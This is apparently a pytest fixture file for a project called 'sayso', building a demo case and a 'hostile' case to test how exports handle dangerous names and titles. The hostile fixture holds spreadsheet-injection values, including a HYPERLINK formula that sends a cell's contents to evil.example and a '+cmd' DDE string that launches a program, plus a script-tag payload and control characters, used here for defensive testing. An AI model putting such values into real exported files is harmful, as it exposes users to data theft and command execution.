"""The demo case, read and stored once for all tests of the exports."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from sayso.demo import pages
from sayso.front import Case
from sayso.page import walk
from sayso.reading.pool import read_each
from tests.case import sample


@pytest.fixture(scope="session")
def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The case file of the demo, with two judgements, one of them undone."""
    path = tmp_path_factory.mktemp("demo") / "demo.sayso"
    with Case(path, create=True) as case:
        list(case.documents.add(walk([str(page) for page in pages()]), read_each))
        case.weigh()
        one, two = (case.actors.get(name).id for name in ("Rafik Tollan", "Irena Tollan"))
        made = case.judgements.different(one, two, note="the page says so", by="desk 1")
        case.judgements.undo(made.number)
    return path


@pytest.fixture(scope="session")
def demo(demo_file: Path) -> Iterator[Case]:
    """The demo case, open for reading."""
    with Case(demo_file, read_only=True) as case:
        yield case


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
MARKUP = 'Front</node><script>alert("1")</script> & Co \x1b[31m\u2028\ufffe'


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Case]:
    """A case of one page whose names are formulas, markup and control characters."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.sayso"
    names = {"Blue Line": FORMULA, "Free Coast Front": MARKUP}
    page = sample.page(1)
    found = sample.reading(page)
    actors = tuple(replace(a, name=names.get(a.name, a.name)) for a in found.actors)
    doc = replace(found.document, title="+cmd|' /C calc'!A0", outlet="@SUM(1+1)")
    harmful = replace(found, document=doc, actors=actors)
    with Case(path, create=True) as case:
        list(case.documents.add([page], lambda given: ((p, [harmful]) for p in given)))
        case.weigh()
    with Case(path, read_only=True) as case:
        yield case
